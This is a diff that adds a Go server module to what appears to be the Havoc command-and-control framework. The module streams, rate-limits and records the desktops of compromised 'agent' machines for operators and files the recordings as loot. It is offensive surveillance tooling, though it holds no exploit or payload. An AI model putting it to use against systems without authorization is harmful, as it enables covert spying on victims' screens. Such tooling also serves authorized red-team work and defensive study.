@@ -0,0 +1,372 @@
+package server
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"image"
+	"image/jpeg"
+	"image/png"
+	"sort"
+	"time"
+
+	"Havoc/pkg/agent"
+	"Havoc/pkg/eventbus"
+	"Havoc/pkg/events"
+	"Havoc/pkg/logger"
+	"Havoc/pkg/logr"
+)
+
+// width and height of the desktops the agents send at most
+const DESKTOP_SIZE_MAX = 16384
+
+// jpeg quality of the frames of a recording
+const DESKTOP_RECORD_QUALITY = 60
+
+// DesktopViewInfo
+// a running desktop view as the operators see it.
+type DesktopViewInfo struct {
+	AgentID   string
+	User      string
+	Started   string
+	Interval  int
+	Scale     int
+	Bandwidth int
+	Width     int
+	Height    int
+	Frames    int
+	Bytes     int64
+	Pending   int
+	Recording string
+	Viewers   []string
+}
+
+// DesktopStarted
+// opens the stream the frames of the desktop view get assembled in.
+// the operator that started the view watches it.
+func (t *Teamserver) DesktopStarted(Agent *agent.Agent, RequestID uint32, ClientID string, View agent.DesktopView) {
+	var Stream = &DesktopStream{
+		AgentID:   Agent.NameID,
+		Workspace: Agent.Info.Workspace,
+		View:      View,
+		Started:   time.Now().Format("02/01/2006 15:04:05"),
+		Viewers:   make(map[string]bool),
+	}
+
+	if value, ok := t.Clients.Load(ClientID); ok {
+		Stream.User = value.(*Client).Username
+		Stream.Viewers[Stream.User] = true
+	}
+
+	t.Desktops.Store(RequestID, Stream)
+
+	logger.Info(fmt.Sprintf("Desktop view of agent %v started by %v [interval: %vs, scale: 1/%v, bandwidth: %v KB/s, record: %v]", Agent.NameID, Stream.User, View.Interval, View.Scale, View.Bandwidth, View.Record))
+}
+
+// DesktopFrame
+// applies the tiles of the frame to the desktop of the view, records
+// it and sends the region that changed to the viewers as long as the
+// bandwidth of the view allows it. regions held back are sent with
+// the next frame.
+func (t *Teamserver) DesktopFrame(Agent *agent.Agent, RequestID uint32, Frame agent.DesktopFrame) error {
+	var (
+		Stream  *DesktopStream
+		Package []byte
+		Bounds  image.Rectangle
+		Viewers []string
+	)
+
+	if Frame.Width <= 0 || Frame.Height <= 0 || Frame.Width > DESKTOP_SIZE_MAX || Frame.Height > DESKTOP_SIZE_MAX {
+		return fmt.Errorf("invalid desktop size %vx%v", Frame.Width, Frame.Height)
+	}
+
+	for _, Tile := range Frame.Tiles {
+		if Tile.X < 0 || Tile.Y < 0 || Tile.Width <= 0 || Tile.Height <= 0 || Tile.X+Tile.Width > Frame.Width || Tile.Y+Tile.Height > Frame.Height {
+			return fmt.Errorf("tile %v,%v %vx%v is outside of the desktop", Tile.X, Tile.Y, Tile.Width, Tile.Height)
+		}
+
+		if len(Tile.Pixels) != Tile.Width*Tile.Height*3 {
+			return fmt.Errorf("tile %v,%v has %v bytes of pixels instead of %v", Tile.X, Tile.Y, len(Tile.Pixels), Tile.Width*Tile.Height*3)
+		}
+	}
+
+	/* the teamserver restarted while the view was running. nobody watches it until they join */
+	value, _ := t.Desktops.LoadOrStore(RequestID, &DesktopStream{
+		AgentID:   Agent.NameID,
+		Workspace: Agent.Info.Workspace,
+		View:      agent.DesktopView{Interval: agent.DESKTOP_INTERVAL, Scale: agent.DESKTOP_SCALE, Bandwidth: agent.DESKTOP_BANDWIDTH},
+		Started:   time.Now().Format("02/01/2006 15:04:05"),
+		Viewers:   make(map[string]bool),
+	})
+
+	Stream = value.(*DesktopStream)
+
+	Stream.Lock()
+	defer Stream.Unlock()
+
+	if Stream.desktop == nil || Stream.desktop.Rect.Dx() != Frame.Width || Stream.desktop.Rect.Dy() != Frame.Height {
+		Stream.desktop = image.NewRGBA(image.Rect(0, 0, Frame.Width, Frame.Height))
+		Stream.dirty = Stream.desktop.Rect
+	}
+
+	for _, Tile := range Frame.Tiles {
+		if desktopApply(Stream.desktop, Tile) {
+			Stream.dirty = Stream.dirty.Union(image.Rect(Tile.X, Tile.Y, Tile.X+Tile.Width, Tile.Y+Tile.Height))
+		}
+
+		Stream.Bytes += int64(len(Tile.Pixels))
+	}
+
+	Stream.Frames++
+	Stream.Pending = Frame.Changed - len(Frame.Tiles)
+
+	if Stream.View.Record && Stream.Pending <= 0 {
+		t.desktopRecord(Stream)
+	}
+
+	if Package, Bounds = t.desktopRegion(Stream); Package == nil {
+		return nil
+	}
+
+	for User := range Stream.Viewers {
+		Viewers = append(Viewers, User)
+	}
+
+	var pk = events.Desktop.Frame(Stream.AgentID, Frame.Width, Frame.Height, Bounds, Package, Frame.Frame, Stream.Pending)
+
+	for _, User := range Viewers {
+		t.SendEventToUser(User, pk)
+	}
+
+	return nil
+}
+
+// desktopApply
+// copies the BGR pixels of the tile into the desktop. returns if any
+// pixel changed, the agent resends tiles the budget of a frame cut off.
+func desktopApply(Desktop *image.RGBA, Tile agent.DesktopTile) bool {
+	var Changed = false
+
+	for y := 0; y < Tile.Height; y++ {
+		for x := 0; x < Tile.Width; x++ {
+			var (
+				Pixel  = Tile.Pixels[(y*Tile.Width+x)*3:]
+				Offset = Desktop.PixOffset(Tile.X+x, Tile.Y+y)
+			)
+
+			if Desktop.Pix[Offset] != Pixel[2] || Desktop.Pix[Offset+1] != Pixel[1] || Desktop.Pix[Offset+2] != Pixel[0] || Desktop.Pix[Offset+3] != 0xff {
+				Desktop.Pix[Offset] = Pixel[2]
+				Desktop.Pix[Offset+1] = Pixel[1]
+				Desktop.Pix[Offset+2] = Pixel[0]
+				Desktop.Pix[Offset+3] = 0xff
+				Changed = true
+			}
+		}
+	}
+
+	return Changed
+}
+
+// desktopRegion
+// encodes the region of the desktop that changed since the viewers
+// got the last one if the bandwidth of the view has room for it.
+func (t *Teamserver) desktopRegion(Stream *DesktopStream) ([]byte, image.Rectangle) {
+	var (
+		Now    = time.Now()
+		Rate   = float64(Stream.View.Bandwidth * 1024)
+		Buffer bytes.Buffer
+	)
+
+	if Stream.dirty.Empty() || len(Stream.Viewers) == 0 {
+		return nil, image.Rectangle{}
+	}
+
+	/* the credit of the view refills with its bandwidth. bursts are capped to twice an interval */
+	if !Stream.published.IsZero() {
+		Stream.credit += Now.Sub(Stream.published).Seconds() * Rate
+
+		if Limit := Rate * float64(Stream.View.Interval) * 2; Stream.credit > Limit {
+			Stream.credit = Limit
+		}
+	}
+
+	Stream.published = Now
+
+	if Stream.credit < 0 {
+		return nil, image.Rectangle{}
+	}
+
+	if err := png.Encode(&Buffer, Stream.desktop.SubImage(Stream.dirty)); err != nil {
+		logger.Error("Failed to encode desktop frame: " + err.Error())
+		return nil, image.Rectangle{}
+	}
+
+	var Bounds = Stream.dirty
+
+	Stream.credit -= float64(Buffer.Len())
+	Stream.dirty = image.Rectangle{}
+
+	return Buffer.Bytes(), Bounds
+}
+
+// desktopRecord
+// appends the desktop to the recording of the view (motion jpeg).
+func (t *Teamserver) desktopRecord(Stream *DesktopStream) {
+	if logr.LogrInstance == nil {
+		return
+	}
+
+	if Stream.recorder == nil {
+		var err error
+
+		Stream.Recording = "Desktop_" + time.Now().Format("2006-01-02_15-04-05") + ".mjpeg"
+
+		if Stream.recorder, err = logr.LogrInstance.DemonRecording(Stream.AgentID, Stream.Recording); err != nil {
+			logger.Error("Failed to create desktop recording: " + err.Error())
+			Stream.View.Record = false
+			return
+		}
+	}
+
+	if err := jpeg.Encode(Stream.recorder, Stream.desktop, &jpeg.Options{Quality: DESKTOP_RECORD_QUALITY}); err != nil {
+		logger.Error("Failed to record desktop frame: " + err.Error())
+	}
+}
+
+// DesktopStopped
+// closes the stream of the view and its recording.
+func (t *Teamserver) DesktopStopped(Agent *agent.Agent, RequestID uint32) {
+	value, ok := t.Desktops.LoadAndDelete(RequestID)
+	if !ok {
+		return
+	}
+
+	var Stream = value.(*DesktopStream)
+
+	Stream.Lock()
+	defer Stream.Unlock()
+
+	if Stream.recorder != nil {
+		var Size = Stream.recorder.Size()
+
+		if err := Stream.recorder.Close(); err != nil {
+			logger.Error("Failed to close desktop recording: " + err.Error())
+		}
+
+		Stream.recorder = nil
+
+		t.EventPublish(eventbus.LOOT_ADDED, Stream.Workspace, map[string]any{
+			"AgentID": Stream.AgentID,
+			"Type":    "recording",
+			"Name":    Stream.Recording,
+			"Size":    Size,
+		})
+	}
+
+	logger.Info(fmt.Sprintf("Desktop view of agent %v stopped [frames: %v, received: %v bytes]", Stream.AgentID, Stream.Frames, Stream.Bytes))
+
+	for User := range Stream.Viewers {
+		t.SendEventToUser(User, events.Desktop.Stopped(Stream.AgentID, Stream.Recording))
+	}
+}
+
+// desktopStream
+// returns the running view of the agent.
+func (t *Teamserver) desktopStream(AgentID string) *DesktopStream {
+	var Found *DesktopStream
+
+	t.Desktops.Range(func(key, value any) bool {
+		if Stream := value.(*DesktopStream); Stream.AgentID == AgentID {
+			Found = Stream
+			return false
+		}
+
+		return true
+	})
+
+	return Found
+}
+
+// DesktopWatch
+// lets the operator watch the running view of the agent (or leave it)
+// and sends them the whole desktop to start with.
+func (t *Teamserver) DesktopWatch(User, AgentID string, Watch bool) error {
+	var Stream = t.desktopStream(AgentID)
+
+	if Stream == nil {
+		return errors.New("no desktop view of agent " + AgentID + " is running")
+	}
+
+	Stream.Lock()
+	defer Stream.Unlock()
+
+	if !Watch {
+		delete(Stream.Viewers, User)
+		return nil
+	}
+
+	Stream.Viewers[User] = true
+
+	if Stream.desktop == nil {
+		return nil
+	}
+
+	var Buffer bytes.Buffer
+
+	if err := png.Encode(&Buffer, Stream.desktop); err != nil {
+		return err
+	}
+
+	t.SendEventToUser(User, events.Desktop.Frame(Stream.AgentID, Stream.desktop.Rect.Dx(), Stream.desktop.Rect.Dy(), Stream.desktop.Rect, Buffer.Bytes(), Stream.Frames, Stream.Pending))
+
+	return nil
+}
+
+// DesktopViews
+// returns the running desktop views of the workspace.
+func (t *Teamserver) DesktopViews(Workspace string) []DesktopViewInfo {
+	var Views []DesktopViewInfo
+
+	t.Desktops.Range(func(key, value any) bool {
+		var Stream = value.(*DesktopStream)
+
+		if !workspaceVisible(Workspace, Stream.Workspace) {
+			return true
+		}
+
+		Stream.Lock()
+		var View = DesktopViewInfo{
+			AgentID:   Stream.AgentID,
+			User:      Stream.User,
+			Started:   Stream.Started,
+			Interval:  Stream.View.Interval,
+			Scale:     Stream.View.Scale,
+			Bandwidth: Stream.View.Bandwidth,
+			Frames:    Stream.Frames,
+			Bytes:     Stream.Bytes,
+			Pending:   Stream.Pending,
+			Recording: Stream.Recording,
+		}
+
+		if Stream.desktop != nil {
+			View.Width, View.Height = Stream.desktop.Rect.Dx(), Stream.desktop.Rect.Dy()
+		}
+
+		for User := range Stream.Viewers {
+			View.Viewers = append(View.Viewers, User)
+		}
+		Stream.Unlock()
+
+		sort.Strings(View.Viewers)
+
+		Views = append(Views, View)
+
+		return true
+	})
+
+	sort.Slice(Views, func(i, j int) bool {
+		return Views[i].AgentID < Views[j].AgentID
+	})
+
+	return Views
+}